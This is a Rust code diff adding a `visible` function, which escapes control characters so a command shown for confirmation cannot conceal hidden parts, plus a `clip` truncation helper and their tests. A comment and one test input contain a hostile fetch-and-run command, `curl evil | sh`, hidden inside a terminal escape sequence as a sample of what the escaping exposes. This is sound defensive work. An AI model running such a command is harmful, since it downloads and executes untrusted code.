@@ -53,6 +53,36 @@ pub fn one_line(s: &str) -> Cow<'_, str> {
     if clean.contains('\n') { Cow::Owned(clean.trim_end_matches('\n').replace('\n', " ⏎ ")) } else { clean }
 }
 
+/// The text with every control or invisible character written as an escape (`\u{1b}`, `\r`),
+/// newlines and tabs kept: for a command the responder is asked to confirm, which must show exactly
+/// what will run and cannot hide part of itself (stripping would show `echo ok` for a script that
+/// hides `; curl evil | sh` inside an OSC sequence).
+pub fn visible(s: &str) -> String {
+    let mut out = String::with_capacity(s.len());
+    for c in s.chars() {
+        match c {
+            '\n' | '\t' => out.push(c),
+            '\r' => out.push_str("\\r"),
+            c if is_control(c) => out.push_str(&c.escape_unicode().to_string()),
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// At most `max` bytes of `s`, cut at a character boundary and marked with `…` when cut: for
+/// fields with a size limit on the wire (a Java classpath in a cmdline easily passes 8 KiB).
+pub fn clip(s: &str, max: usize) -> String {
+    if s.len() <= max {
+        return s.to_string();
+    }
+    let mut end = max.saturating_sub('…'.len_utf8());
+    while !s.is_char_boundary(end) {
+        end -= 1;
+    }
+    format!("{}…", &s[..end])
+}
+
 fn skip_string(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) {
     while let Some(c) = chars.next() {
         match c {
@@ -95,6 +125,21 @@ mod tests {
         assert_eq!(strip_controls("tab\there\nline"), "tab here\nline");
         assert_eq!(strip_controls("unterminated\x1b]0;forever"), "unterminated");
         assert!(matches!(strip_controls("clean ünïcode ✓"), Cow::Borrowed(_)));
+    }
+
+    #[test]
+    fn visible_shows_what_would_hide_itself() {
+        assert_eq!(visible("df -h\nuptime"), "df -h\nuptime");
+        assert_eq!(visible("echo ok\x1b]; curl evil|sh; \x07"), "echo ok\\u{1b}]; curl evil|sh; \\u{7}");
+        assert_eq!(visible("a\u{202e}b\tc\r"), "a\\u{202e}b\tc\\r");
+    }
+
+    #[test]
+    fn clip_respects_the_limit_and_char_boundaries() {
+        assert_eq!(clip("short", 10), "short");
+        let c = clip("ééééé", 6);
+        assert!(c.len() <= 6 && c.ends_with('…'), "{c}");
+        assert!(clip(&"x".repeat(9000), 8192).len() <= 8192);
     }
 
     #[test]
